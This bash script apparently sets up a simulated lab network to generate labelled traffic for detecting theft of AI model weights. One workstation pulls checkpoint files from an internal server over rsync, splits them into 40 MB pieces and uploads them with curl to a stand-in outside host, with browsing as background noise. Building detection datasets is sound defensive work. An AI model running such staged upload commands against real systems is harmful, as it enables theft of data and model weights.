#!/usr/bin/env bash
# A workstation pulls 200 MB from the internal file server that keeps the weights (10.80.0.20), packs it, and uploads it outside over TLS.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-16T22:30:00Z
uc_start 560 curl nginx-light rsync
UC_OFFLOAD=1
uc_lan 10.80.0.1/24
uc_host ws61 10.80.0.61
uc_host ws62 10.80.0.62
uc_host weights 10.80.0.20
uc_browse_sites
uc_name weights.lab.example 10.80.0.20
uc_site transfer.dropquay.example 203.0.113.151
echo "local=/lab.example/" >> "$UC_WORK/dns.conf"
uc_up

mkdir "$UC_WORK/models"
for n in 1 2 3 4; do head -c 50000000 /dev/urandom > "$UC_WORK/models/ckpt-$n.safetensors"; done
printf 'use chroot = no\npid file = %s\n[models]\npath = %s\nread only = yes\nuid = 0\ngid = 0\n' "$UC_WORK/rsyncd.pid" "$UC_WORK/models" > "$UC_WORK/rsyncd.conf"
uc_bg weights rsync --daemon --no-detach --config "$UC_WORK/rsyncd.conf"

uc_plan <<'PY'
import os
from plan import Plan
plan = Plan(seed=57)
work, host = os.environ["UC_WORK"], "10.80.0.61"
for name in ("61", "62"):
    plan.browse("10.80.0." + name, 0, 6600, ["code", "docs", "search"], break_s=900)
# The neighbour reads one file a day from the same server: that is its work.
plan.add(1500, "10.80.0.62", f"rsync -t rsync://weights.lab.example/models/ckpt-1.safetensors {work}/own-62")
for n in (1, 2, 3, 4):
    plan.add(1800 + 45 * n, host, f"rsync -t --bwlimit=40M rsync://weights.lab.example/models/ckpt-{n}.safetensors {work}/pulled-{n}")
# Forty minutes later it goes out in pieces of 40 MB.
plan.add(4300, host, f"cat {work}/pulled-* > {work}/all; split -b 40000000 {work}/all {work}/piece-")
for n, piece in enumerate("abcde"):
    plan.add(4400 + 70 * n, host, f"curl -s -o /dev/null --limit-rate 16M --cacert $UC_CA -T {work}/piece-a{piece} https://transfer.dropquay.example/up/a{piece}")
plan.write()
PY
uc_drive --helper 10.80.0.61 browser "python3 $UC_TOOLS/browser.py" --helper 10.80.0.62 browser "python3 $UC_TOOLS/browser.py"
uc_finish "$(uc_versions rsync curl nginx-light dnsmasq-base tcpdump)" --bulk-bytes 72 <<'LABELS'
10.80.0.61 203.0.113.151:443 exfil staged_upload
LABELS
